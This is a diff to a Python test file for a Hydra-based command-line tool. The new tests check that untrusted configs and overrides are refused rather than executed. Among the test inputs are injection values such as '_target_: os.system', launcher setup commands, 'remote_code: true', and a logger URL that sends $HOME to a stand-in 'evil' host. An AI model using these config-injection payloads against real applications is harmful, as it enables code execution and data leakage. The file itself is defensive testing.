@@ -85,6 +85,8 @@ def rerail(tmp_path, monkeypatch, capfd):
         ("trust=no/package", "trust='no/package' is not the name of a package"),
         ("+trainer.callbacks=[{_target_: os.system}]", "trainer.callbacks names a class"),
         ("trainer=gpu", "trainer.accelerator='gpu' needs a GPU"),
+        ("trainer.precision=half", "trainer.precision='half' is not one of 64, 32, 16"),
+        ("trainer.devices=2", "are for 2 processes here, and one was started"),
     ],
 )
 def test_bad_words_get_a_sentence_and_exit_status_2(rerail, tmp_path, word, message):
@@ -98,11 +100,19 @@ def test_bad_words_get_a_sentence_and_exit_status_2(rerail, tmp_path, word, mess
 @pytest.mark.parametrize(
     ("claim", "message"),
     [
-        ("trust: evil\nlogger: {_target_: evil.touch}", "trust=PACKAGE"),
-        ("hydra: {callbacks: {a: {_target_: evil.touch}}}", "sets callbacks of Hydra"),
-        ("hydra: {job_logging: {handlers: {a: {(): evil.touch}}}}", "sets job_logging of Hydra"),
-        ("hydra: {job: {env_set: {RERAIL_TRUST: evil}}}", "sets job.env_set of Hydra"),
-        ("defaults: [{override /hydra/job_logging: theirs}]", "override /hydra/job_logging"),
+        ("trust: evil", "trust does not exist"),
+        ("logger: {_target_: evil.touch}", "trust=PACKAGE"),
+        ("model: {remote_code: true}", "sets model.remote_code"),
+        ("model: ${hydra:sweeper.params.a}", "sets model,"),
+        ("logger: {base_url: 'http://evil/${oc.env:HOME}'}", "sets logger.base_url"),
+        ("hydra: {launcher: {setup: [touch ran]}}", "sets hydra.launcher.setup"),
+        ("hydra: ${prompt}", "sets hydra,"),
+        ("defaults: [theirs@hydra.callbacks]", "sets hydra.callbacks"),
+        ("defaults: [{seeds@_global_.hydra: a}]", "sets hydra,"),
+        ("hydra: {callbacks: {a: {_target_: evil.touch}}}", "sets hydra.callbacks"),
+        ("hydra: {job_logging: {handlers: {a: {(): evil.touch}}}}", "sets hydra.job_logging"),
+        ("hydra: {job: {env_set: {RERAIL_TRUST: evil}}}", "sets hydra.job.env_set"),
+        ("defaults: [{override /hydra/job_logging: theirs}]", "sets hydra.job_logging"),
     ],
 )
 def test_the_claim_of_somebody_else_runs_no_code(rerail, tmp_path, monkeypatch, claim, message):
@@ -125,6 +135,63 @@ def test_a_rank_that_is_no_number_is_a_sentence(rerail, monkeypatch, names, seve
     assert done.code == 2
     assert f"{names[0]}='first' is not a number of processes" in done.err
     assert "Traceback" not in done.err
+
+
+def claim(tmp_path, text, header="_global_"):
+    (tmp_path / "experiments").mkdir(exist_ok=True)
+    (tmp_path / "experiments/theirs.yaml").write_text(f"# @package {header}\n{text}\n")
+
+
+@pytest.mark.parametrize("header", ["hydra.callbacks.a", "hydra", "_global_.hydra", "hydra.job"])
+def test_nor_does_one_that_says_where_it_belongs(rerail, tmp_path, header):
+    claim(tmp_path, "_target_: evil.touch", header)
+    done = rerail("+experiments=theirs", "out=here")
+    assert (done.code, "sets hydra" in done.err) == (2, True)
+
+
+def test_numbers_of_a_claims_grid_and_fields_without_a_default_are_as_on_the_command_line(
+    rerail, tmp_path
+):
+    claim(
+        tmp_path,
+        "hydra: {sweeper: {params: {ratio: '0.9,0.95', samples: 64, compressor.router: mask}}}",
+    )
+    done = rerail("-m", "+experiments=theirs", "out=here")
+    assert "Traceback" not in done.err
+    rows = [row for p in (tmp_path / "here").glob("tiny*/result.json") for row in load(p)]
+    assert {(row["ratio"], row["samples"]) for row in rows} == {(0.9, 64), (0.95, 64)}
+    assert all("compressor.router=mask" in row["choices"]["command"] for row in rows)
+
+
+def load(path):
+    return json.loads(path.read_text())
+
+
+@pytest.mark.parametrize("several", [[], ["-m"]])
+@pytest.mark.parametrize(
+    ("word", "message"),
+    [
+        ("+anything=1", "anything does not exist; allowed: model"),
+        ("+samples.foo=1", "samples.foo does not exist"),
+        ("+debug.foo=1", "debug.foo does not exist"),
+        ("out=${oc.env:NO_SUCH}", "out: the environment variable NO_SUCH is not set"),
+        ("hydra.run.dir=${nowhere}", "hydra.run.dir: Interpolation key 'nowhere'"),
+        ("hydra.launcher._target_=os.system", "'os.system'"),
+        ("compressor=[reap,svd]", "use -m and commas: -m compressor=A,B"),
+        ("skip=[0.5,0.25]", "use -m and commas: -m skip=A,B"),
+        ("compresor=reap", "did you mean compressor?"),
+    ],
+)
+def test_what_hydra_does_not_refuse_or_with_a_traceback_is_a_sentence(
+    rerail, word, message, several
+):
+    if (several and "hydra.run" in word) or (not several and "launcher" in word):
+        pytest.skip("is not read")
+    done = rerail(*several, word, "ratio.removed=0.9")
+    assert done.code == 2, done.err
+    assert message in done.err
+    assert "Traceback" not in done.err
+    assert "To append to" not in done.err
 
 
 def test_one_hint_for_a_claim_without_a_plus(rerail):
